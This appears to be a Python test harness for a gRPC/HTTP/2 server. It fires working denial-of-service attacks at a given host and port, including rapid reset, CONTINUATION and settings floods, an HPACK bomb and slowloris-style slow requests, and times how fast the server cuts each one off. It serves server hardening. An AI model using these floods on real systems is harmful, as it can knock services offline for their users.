"""The attacks, each over a socket: python attacks.py NAME HOST:PORT SECONDS [tls] runs one over and over, and prints how often
and the longest time until the server cut it off."""
import json
import sys
import time
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent.parent))

from raw_http2 import *  # noqa: E402, F403  the names of frames, flags and codes

PREFACE_DEADLINE = STALL_DEADLINE = BODY_GRACE = 0.5
PATIENCE = 4
MANY = bytes([0x08, 0x80, 0x80, 0x02]) # ResponseParameters { size: 32,768 }


def flood(connection, chunks, deadline):
    """Sends until the server ends the connection. The seconds until it did, beyond the deadline that it gives anybody,
    which begins when the attacker has said all it says; None where it did not."""
    start = time.monotonic()
    end = start + PATIENCE
    for chunk in chunks:
        connection.send(chunk)
        if connection.is_over():
            return max(0, time.monotonic() - start - deadline)
        if time.monotonic() > end:
            return None
    if deadline:
        start = time.monotonic()
    while time.monotonic() < end:
        if connection.is_over():
            return max(0, time.monotonic() - start - deadline)
        time.sleep(0.005)
    return None


def streams(connection, behind):
    """Heads of ever new streams with something behind each, 20 in a chunk."""
    # The first block fills the dynamic table, the others are indices into it.
    fields = call("FullDuplexCall")
    number = 1
    while True:
        chunk = b""
        for _ in range(20):
            chunk += frame(HEADERS, END_HEADERS, number, connection.block(fields)) + behind(number)
            number += 2
        yield chunk


def forever(chunk, first=b""):
    if first:
        yield first
    while True:
        yield chunk


def open_stream(connection):
    return frame(HEADERS, END_HEADERS, 1, connection.block(call("FullDuplexCall")))


def bomb(connection):
    """One long field into the dynamic table, then an index of one byte, over and over: 4 KB become 50 MB."""
    long = b"\x40\x01b\x7f\xa1\x1e" + b"c" * 4000
    block = connection.block(call("EmptyCall")) + long + b"\xbe" * 10000
    return forever(frame(HEADERS, END_HEADERS, 3, block), frame(HEADERS, END_HEADERS, 1, block))


def slow_head(connection):
    """A head over HTTP/1.1 that never ends, a field at a time."""
    yield b"GET / HTTP/1.1\r\nhost: test\r\n"
    while True:
        time.sleep(0.02)
        yield b"a: b\r\n"


def slow_second_head(connection):
    """A request over HTTP/1.1, and behind its answer a head that never begins: empty lines are skipped."""
    yield b"GET / HTTP/1.1\r\nhost: test\r\n\r\n"
    while True:
        time.sleep(0.02)
        yield b"\r\n"


def slow_body(connection):
    """A body over HTTP/1.1 that comes a byte at a time."""
    yield b"POST /grpc.testing.TestService/EmptyCall HTTP/1.1\r\nhost: test\r\ncontent-type: application/proto\r\ncontent-length: 100000\r\n\r\n"
    while True:
        time.sleep(0.02)
        yield b" "


def hungry(connection):
    """Asks for responses without a window to send them in."""
    request = message(b"".join(bytes([0x12, len(MANY)]) + MANY for _ in range(200)))
    return [frame(HEADERS, END_HEADERS, number, connection.block(call("StreamingOutputCall")))
            + frame(DATA, END_STREAM, number, request) for number in range(1, 65, 2)]


# name: (the client's settings, what is sent, deadline of the server that has to pass first)
ATTACKS = {
    "rapid_reset": ((), lambda c: streams(c, reset), 0),
    "made_you_reset_by_overflow": ((), lambda c: streams(c, lambda n: window_update(n, 0x7FFFFFFF)), 0),
    "made_you_reset_by_zero": ((), lambda c: streams(c, lambda n: window_update(n, 0)), 0),
    "made_you_reset_by_length": ((), lambda c: streams(c, lambda n: frame(PRIORITY, 0, n, b"\0")), 0),
    "too_many_streams": ((), lambda c: streams(c, lambda n: b""), 0),
    "continuation_flood": ((), lambda c: forever(frame(CONTINUATION, 0, 1, b"\x00\x01a\x01b") * 4,
                                                 frame(HEADERS, 0, 1, c.block(call("EmptyCall")))), 0),
    "empty_continuation_flood": ((), lambda c: forever(frame(CONTINUATION, 0, 1) * 4, frame(HEADERS, 0, 1)), 0),
    "ping_flood": ((), lambda c: forever(frame(PING, 0, 0, b"\0" * 8) * 100), 0),
    "settings_flood": ((), lambda c: forever(settings((INITIAL_WINDOW_SIZE, 65535)) * 100), 0),
    "empty_settings_flood": ((), lambda c: forever(settings() * 100), 0),
    "empty_data_flood": ((), lambda c: forever(frame(DATA, 0, 1) * 100, open_stream(c)), 0),
    "padding_flood": ((), lambda c: forever(frame(DATA, PADDED, 1, bytes([254]) + b"\0" * 255) * 64, open_stream(c)), 0),
    "priority_flood": ((), lambda c: forever(frame(PRIORITY, 0, 1, b"\0\0\0\0\1") * 100, open_stream(c)), 0),
    "window_update_flood": ((), lambda c: forever(window_update(0, 1) * 100, open_stream(c)), 0),
    "unknown_frame_flood": ((), lambda c: forever(frame(0x16, 0, 0, b"\0" * 4096) * 16), 0),
    "hpack_bomb": ((), bomb, 0),
    "slow_preface": (None, lambda c: [PREFACE[:20]], PREFACE_DEADLINE),
    "preface_without_settings": (None, lambda c: [PREFACE], PREFACE_DEADLINE),
    "slow_http1_head": (None, slow_head, PREFACE_DEADLINE),
    "slow_http1_second_head": (None, slow_second_head, PREFACE_DEADLINE),
    "slow_http1_body": (None, slow_body, BODY_GRACE),
    "zero_window_reader": (((INITIAL_WINDOW_SIZE, 0),), hungry, STALL_DEADLINE),
}


def attack(name, address, tls):
    """Attacks once; the seconds until the server ended the connection, beyond the deadline it gives everybody."""
    pairs, chunks, deadline = ATTACKS[name]
    with Connection(address, *(pairs or ()), preface=pairs is not None, seconds=PATIENCE, tls=tls) as connection:
        took = flood(connection, chunks(connection), deadline)
        if took is None:
            raise AssertionError(f"{name}: the connection was not ended in {PATIENCE} s")
        return took


def main(name, address, seconds, tls=""):
    end, slowest, rounds = time.monotonic() + float(seconds), 0, 0
    while time.monotonic() < end or not rounds:
        slowest = max(slowest, attack(name, address, tls == "tls"))
        rounds += 1
    print(json.dumps({"rounds": rounds, "slowest": slowest}))


if __name__ == "__main__":
    main(*sys.argv[1:])
